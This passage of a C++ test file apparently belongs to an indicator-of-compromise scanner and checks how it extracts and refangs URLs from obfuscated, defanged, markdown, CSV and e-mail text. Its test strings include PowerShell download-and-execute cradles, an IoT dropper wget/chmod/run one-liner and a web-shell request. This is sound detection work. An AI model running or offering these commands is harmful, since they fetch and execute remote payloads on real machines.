            << piece;
    }
    // Without a quote before it, "'" is a path's byte.
    EXPECT_EQ(urls("see http://x.example/it's-here and (http://x.example/a'b)"),
              (V{"http://x.example/it's-here", "http://x.example/a'b"}));
}

// Session 20 sweep: a string built in pieces. A closing quote inside the
// scheme left a one-byte URL ("h`t`t`p://..." gave "t"), and one inside the
// host a piece of a name when the string is joined to the next ("+") or
// the name stops at "." or "-" (before: "ttp://dl.evil-lan", "https://edge").
TEST(UrlPrecision, AQuoteThatCutsTheSchemeOrANameLeavesNoPiece) {
    EXPECT_EQ(refanged("iex(iwr 'h`t`t`p://203.0.113.90/d/s.ps1')"), V{"http://203.0.113.90/d/s.ps1"});
    EXPECT_EQ(urls("iex(iwr ('h'+'ttp://dl.evil-lan'+'tern.top/d/s.ps1'))"), V{});
    EXPECT_EQ(urls("$u=('{2}{0}{1}' -f 'evil-lantern.top/','gate','https://edge.')"), V{});
    // A whole host before the "+", or a cut in the path, keeps the URL.
    EXPECT_EQ(refanged("u='https://api.evil.example'+p; v='hxxp://evil[.]com'+q; w='http://a.example/x'+id"),
              (V{"https://api.evil.example", "http://evil.com", "http://a.example/x"}));
    EXPECT_EQ(urls("c='http://localhost'; d=\"https://10.0.0.1\"+e"), (V{"http://localhost", "https://10.0.0.1"}));
}

TEST(UrlPrecision, QuotedPrintableSoftLineBreakEndsNoUrl) {
    // An e-mail body in quoted-printable breaks lines with "=": in the host
    // it leaves a piece of a name (before: "https://dhl-parc="). After the
    // host it goes only in quoted-printable text, a URL holding "=3D" or
    // after "=3D\"" (an HTML attribute); else it may be a key's "=" or
    // base64 padding, which stay.
    const std::string body = "see https://dhl-parc=\nel-notice.com/track\r\nor https://evil.example/tr=\r\nack "
                             "evil[.]example/a/b=\nc http://x.example/?q=\n http://y.example/?a=3Db&c=\n"
                             "<a href=3D\"http://z.example/sha=\nre/x\"> https://w.example/dl/ZXZpbA==\n";
    for (std::size_t piece : {0u, 1u, 2u, 3u, 20u, 21u, 22u}) {
        EXPECT_EQ(values_of(scan_pieces(body, options_for({Type::url}), piece), Type::url),
                  (V{"https://evil.example/tr=", "evil[.]example/a/b=", "http://x.example/?q=", "http://y.example/?a=3Db&c",
                     "http://z.example/sha", "https://w.example/dl/ZXZpbA=="}))
            << piece;
    }
    // Not before a line break, "=" stays; at the end of input too.
    EXPECT_EQ(urls("http://x.example/a= http://y.example/b="), (V{"http://x.example/a=", "http://y.example/b="}));
}

TEST(UrlPrecision, ShellCommandAfterASemicolonIsNoPartOfTheUrl) {
    // An IoT dropper's request, its spaces written "+" (before: the URL
    // "http://1.2.3.4/x86;chmod+777+x86;./x86").
    EXPECT_EQ(urls("cd /tmp; wget+http://1.2.3.4/x86;chmod+777+x86;./x86 wget http://5.6.7.8/a;sh x "
                   "curl -O http://x.example/b;./b http://x.example/c;RM+-rf+c"),
              (V{"http://1.2.3.4/x86", "http://5.6.7.8/a", "http://x.example/b", "http://x.example/c"}));
    // Path parameters stay.
    EXPECT_EQ(urls("http://x/a;jsessionid=1?b http://x/b;cdn=2 http://x/c;shop http://x/d;chmod.txt"),
              (V{"http://x/a;jsessionid=1?b", "http://x/b;cdn=2", "http://x/c;shop", "http://x/d;chmod.txt"}));
}

TEST(UrlPrecision, ShellCommandWithAnEncodedSpaceAfterASemicolon) {
    // A web log's request carrying the one-liner in its query, spaces as
    // "%20" (before: "http://203.0.113.41/x86;chmod%20777%20x86").
    EXPECT_EQ(urls("GET /shell.php?c=wget%20http://203.0.113.41/x86;chmod%20777%20x86;./x86 HTTP/1.1"),
              (V{"http://203.0.113.41/x86"}));
    // A name that only starts with a command word stays.
    EXPECT_EQ(urls("http://x/a;chmodx%20y http://x/b;cdn%20"), (V{"http://x/a;chmodx%20y", "http://x/b;cdn%20"}));
}

TEST(UrlPrecision, AQuerysTrailingWildcardIsNoPartOfTheUrl) {
    // Hunting queries glob around a URL (before: ".../*" kept the "*").
    EXPECT_EQ(urls("CommandLine=\"*DownloadString('http://cdn.example.net/*\") OR url=hxxp://evil[.]com/a/**' "
                   "see http://x.example.org/p*)."),
              (V{"http://cdn.example.net/", "hxxp://evil[.]com/a/", "http://x.example.org/p"}));
    // A "*" inside the path stays, and --open keeps a trailing one.
    EXPECT_EQ(urls("http://x.example.org/a/*.exe"), (V{"http://x.example.org/a/*.exe"}));
    Options open = options_for({Type::url});
    open.open_punctuation = true;
    EXPECT_EQ(values_of(scan_pieces("http://x.example.org/a/* ", open, 0), Type::url), (V{"http://x.example.org/a/*"}));
}

TEST(UrlPrecision, AnAdblockSeparatorMarkIsNoPartOfTheUrl) {
    // "|https://host^" is an Adblock filter: "^" marks a separator (before:
    // no URL for an address host, "^" kept after a path).
    EXPECT_EQ(urls("|https://203.0.113.77^\n|https://evil.example.net/x^\n|http://b.example.org/*^"),
              (V{"https://203.0.113.77", "https://evil.example.net/x", "http://b.example.org/"}));
    // Inside the path it stays.
    EXPECT_EQ(urls("http://x.example.org/a^b"), (V{"http://x.example.org/a^b"}));
    // The filter's options after it are no part of the URL either (before:
    // no URL for a host, the options kept after a path).
    EXPECT_EQ(urls("|https://evil.example.com^$third-party\n|http://203.0.113.7/x.js^$script,domain=a.example"),
              (V{"https://evil.example.com", "http://203.0.113.7/x.js"}));
}

TEST(UrlPrecision, ACsvRowsFirstFieldEndsBeforeADate) {
    // A feed's row starting with the URL: the next field a date (before:
    // the whole row was the URL).
    EXPECT_EQ(urls("http://evil.example/a.exe,2024-01-01,malware_download\n"
                   "hxxp://b[.]example/x,2024-01-02T10:00:00Z,c2\nevil[.]net/y,2024-01-03"),
              (V{"http://evil.example/a.exe", "hxxp://b[.]example/x", "evil[.]net/y"}));
    // A comma before other text stays, a date inside a name too.
    EXPECT_EQ(urls("https://maps.example/@47.6,-122.3,15z http://x/?a=1,2,3 http://x/r,2024-01-01.pdf"),
              (V{"https://maps.example/@47.6,-122.3,15z", "http://x/?a=1,2,3", "http://x/r,2024-01-01.pdf"}));
}

TEST(UrlPrecision, MarkdownEmphasisAroundAUrlIsNoPartOfIt) {
    // The closing run that pairs with the run just before the URL is markup
    // (before: "http://evil.example/a**", and no bracket URL at all, as a
    // "*" in it reads as a regular expression), with --open too.
    const std::string emphasized =
        "see **http://a.example/1** now, *http://b.example/2*. _http://c.example/3_ __http://d.example/4__ "
        "~~http://e.example/5~~ ***http://f.example/6***) (**g[.]example/7**). __h[.]example__ _i\\.example_ "
        "__hxxp__j.example/8__ \"**k[.]example**\\n\" | **l[.]example;m[.]example** |";
    const V unemphasized{"http://a.example/1", "http://b.example/2", "http://c.example/3", "http://d.example/4",
                         "http://e.example/5", "http://f.example/6", "g[.]example/7", "h[.]example", "i\\.example",
                         "hxxp__j.example/8", "k[.]example", "l[.]example", "m[.]example"};
    Options open = options_for({Type::url});
    open.open_punctuation = true;
    for (std::size_t piece : {0u, 1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(emphasized, options_for({Type::url}), piece), Type::url), unemphasized)
            << piece;
        EXPECT_EQ(values_of(scan_pieces("see **http://a.example/1** now", open, piece), Type::url),
                  V{"http://a.example/1"})
            << piece;
    }
    // Not emphasis: a lone or unpaired mark at the end, a mark inside the
    // path, a run after a word character ("a**"), runs of four or more, and
    // "__" as the scheme separator. An "_" stays; a "*" that ends the URL is
    // a wildcard and goes (AQuerysTrailingWildcardIsNoPartOfTheUrl).
    EXPECT_EQ(urls("http://a.example/* http://b.example/x_ **http://c.example/d*e** a**http://d.example/f** "
                   "****http://e.example/g**** **http://f.example/h* hxxp__g.example/i__ _dmarc[.]h[.]example"),
              (V{"http://a.example/", "http://b.example/x_", "http://c.example/d*e", "http://d.example/f",
                 "http://e.example/g", "http://f.example/h", "hxxp__g.example/i__", "_dmarc[.]h[.]example"}));
}

TEST(UrlPrecision, MarkdownTableCellWrittenWithoutSpaces) {
    // A URL right after "|", or one whose token ends in "|", is a cell's
    // text: its first "|" ends it (before: "hxxp://evil[.]com/a|203.0.113.1|").
    const std::string table = "|hxxp://evil[.]com/a|203.0.113.1|\n|**b[.]example/x**|C2|\n| c[.]example/y|z|\n";
    for (std::size_t piece : {0u, 1u, 3u}) {
        EXPECT_EQ(values_of(scan_pieces(table, options_for({Type::url}), piece), Type::url),
                  (V{"hxxp://evil[.]com/a", "b[.]example/x", "c[.]example/y"}))
            << piece;
    }
    // Elsewhere a "|" in a path stays.
    EXPECT_EQ(urls("http://x.example/a|b and x|y http://y.example/c|d"), (V{"http://x.example/a|b", "http://y.example/c|d"}));
}

TEST(UrlPrecision, ACsvFieldEndsAtTheNextComma) {
    // A MISP/OpenCTI export: the fields after the URL are no path.
    EXPECT_EQ(urls("url,https://x.example/api/v2/ping,,1,1763424000,,,"), V{"https://x.example/api/v2/ping"});
    EXPECT_EQ(urls("x,http://45.142.212.100/s.ps1,PowerShell"), V{"http://45.142.212.100/s.ps1"});
    EXPECT_EQ(refanged("d,evil[.]com/a.php,high"), V{"http://evil.com/a.php"});
    // A comma in the host is the host rule's; one in a path elsewhere stays.
    EXPECT_EQ(refanged("x,http://198,51,100,7/x,y"), V{"http://198.51.100.7/x"});
    EXPECT_EQ(urls("https://maps.example/@47.6,-122.3,15z"), V{"https://maps.example/@47.6,-122.3,15z"});
    // Cut in pieces the comma before the token is still read.
    for (std::size_t piece = 1; piece <= 9; ++piece) {
        EXPECT_EQ(values_of(scan_pieces("id,http://x.example/a,b", options_for({Type::url}), piece), Type::url),
                  V{"http://x.example/a"}) << "piece " << piece;
    }
}

TEST(UrlPrecision, Base64LastGroupAndStubs) {
    // "...Y29tba": the last group's unused bits are not zero, so it is no
    // encoder's output: "http://example.com", not "http://example.comm".
    EXPECT_EQ(refanged("aHR0cDovL2V4YW1wbGUuY29tba"), V{"http://example.com"});
    EXPECT_EQ(refanged("aHR0cDovL2V4YW1wbGUuaW8="), V{"http://example.io"});   // canonical: kept
    // A fragment that decodes to a stub is no URL.
    EXPECT_EQ(refanged("aHR0cDovL2NuanM="), V{});
    EXPECT_EQ(refanged("aHR0cDovLzE5OC41MS4xMDAuNy94"), V{"http://198.51.100.7/x"});
}

// The post-pass drops a bracket/backslash match whose text fails
// may_name_plausible_host() before it cuts and refangs it: the smallest
// hosts that pass the host check must stay (three label bytes, an IPv4
// address, a colon), while "a[.]a" every few bytes gives nothing.
TEST(UrlPrecision, ShortestPlausibleHostsStayWithoutAScheme) {
    EXPECT_EQ(urls("a[.]a a(.)b 1[.]2 a[.]a\\. a[.]a\\.b x[.]y;z"), V{});
    EXPECT_EQ(refanged("evil[.]com/x 1[.]2[.]3[.]4 evil[.]co[.]uk x[.]onion a[.]xn--p1ai"),
              (V{"http://evil.com/x", "http://1.2.3.4", "http://evil.co.uk", "http://x.onion", "http://a.xn--p1ai"}));
    EXPECT_EQ(refanged("a[.]co X[.]IO a\\.io 1(.)2(.)3(.)4:8 a[ . ]co a[.]a;b[.]co"),
              (V{"http://a.co", "http://X.IO", "http://a.io", "http://1.2.3.4:8", "http://a.co", "http://b.co"}));
}

// may_name_plausible_host() is a necessary condition of the host check:
// whenever a prefix of a text (what the cut leaves), refanged, passes
// plausible_url(), the whole text passes it. Texts made of defang tokens,
// separators and few label bytes, where a bound set too high would drop a
// host the check accepts.
TEST(UrlPrecision, EarlyHostRejectIsANecessaryConditionOfTheHostCheck) {
    const std::vector<std::string> pieces = {"a", "C", "o", "1", "2", "-", "_", "[.]", "(.)", "[dot]", "(DOT)",
                                             "\\.", "\\\\.", " ", ".", ",", "[:]", ":", "/", "(", ")", "[", "]",
                                             "\\/", "@", "xn--", "hxxp://", "io", "8"};
    std::string refanged_text;
    int plausible = 0;
    const auto check = [&](const std::string& text) {
        const bool may = detail::may_name_plausible_host(text);
        for (std::size_t length = 1; length <= text.size(); ++length) {
            const std::string_view raw = std::string_view(text).substr(0, length);
            detail::refang_url(raw, refanged_text);
            if (!detail::plausible_url(raw, refanged_text)) continue;
            ++plausible;
            ASSERT_TRUE(may) << "dropped early, yet its prefix \"" << raw << "\" passes the host check";
        }
    };
    // The fewest label bytes each kind of host has.
    for (const std::string text : {"a[.]co", "1[.]2[.]3[.]4", "[::]", "[::1]/a", "x[.]xn--p1ai"}) check(text);
    std::mt19937 rng(14);
    for (int round = 0; round < 200000; ++round) {
        std::string text;
        const std::size_t count = 1 + rng() % 7;
        for (std::size_t k = 0; k < count; ++k) text += pieces[rng() % pieces.size()];
        check(text);
    }
    // The texts reach the host check's boundary often enough to test it.
    EXPECT_GT(plausible, 1000);
}

}  // namespace
}  // namespace iocscan::test
